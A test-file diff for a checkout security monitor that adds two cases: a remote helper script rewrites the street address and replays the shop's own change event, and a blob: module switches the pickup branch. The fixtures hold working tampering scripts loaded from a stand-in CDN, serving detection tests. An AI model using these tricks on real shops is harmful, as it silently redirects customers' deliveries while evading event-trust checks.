@@ -221,6 +221,53 @@ describeEachBrowser('sensors-rest: checkout', (context) => {
     expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/branch.js`);
   });
 
+  // Two bypasses a review found in the first version of the shop's own dispatches taken as the person's (stop 55).
+  it("catches a helper replaying the shop's own change event after rewriting the street, and names it", async ({ task }) => {
+    context.shop.setFixture(
+      STATIC.checkout,
+      `${CHECKOUT_JS}\n${SUGGESTIONS_AND_MAP}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/replay.js'; document.head.appendChild(s); })();`,
+      { contentType: 'text/javascript' },
+    );
+    context.shop.setFixture(
+      '/replay.js',
+      `(function () {
+  var street = document.querySelector('input[autocomplete="street-address"]');
+  var saved = null;
+  street.addEventListener('change', function (event) {
+    if (event.isTrusted || saved) return;
+    saved = event;
+    setTimeout(function () { street.value = 'ул. Чужая, д. 13, кв. 666'; street.dispatchEvent(saved); window.__replayed = true; }, 300);
+  });
+})();`,
+      { host: HELPER_CDN, contentType: 'text/javascript' },
+    );
+    const saq = await saqBrowser();
+    const { page, tabId } = await atCheckout(saq, context.shop);
+    await typeStreet(page, 'Abay 10');
+    await page.click('ul.suggestions li');
+    await pollPage(page, () => (window as { __replayed?: boolean }).__replayed === true, undefined, 'the helper to replay the event');
+    await deliveryCaught(saq, tabId, task, "street rewritten and the shop's own change event replayed by a helper", 'address');
+    const verdict = (await rulesFire(saq, tabId, ['SAQ-CHK-002']))!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
+    expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/replay.js`);
+  });
+
+  it("catches the pickup branch switched from a module a helper made from a blob (the shop's origin in its address)", async ({ task }) => {
+    const code = `var b = document.querySelector('[data-role="pickup-branch"]'); b.value = 'oskemen'; b.dispatchEvent(new Event('change', { bubbles: true }));`;
+    context.shop.setFixture(
+      STATIC.checkout,
+      `${CHECKOUT_JS}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/blob-branch.js'; document.head.appendChild(s); })();`,
+      { contentType: 'text/javascript' },
+    );
+    context.shop.setFixture(
+      '/blob-branch.js',
+      `setTimeout(function () { import(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))); }, 300);`,
+      { host: HELPER_CDN, contentType: 'text/javascript' },
+    );
+    const saq = await saqBrowser();
+    const { tabId } = await atCheckout(saq, context.shop);
+    await deliveryCaught(saq, tabId, task, 'pickup branch switched from a blob: module a helper imported', 'branch');
+  });
+
   // Both were SAQ-CHK-002 (danger) on the shop's own code, in both browsers (a review of benign pages, stop 55).
   it("stays silent for the shop's address suggestions and branch map, which set the fields and fire input and change", async ({ task }) => {
     context.shop.setFixture(STATIC.checkout, `${CHECKOUT_JS}\n${SUGGESTIONS_AND_MAP}`, { contentType: 'text/javascript' });
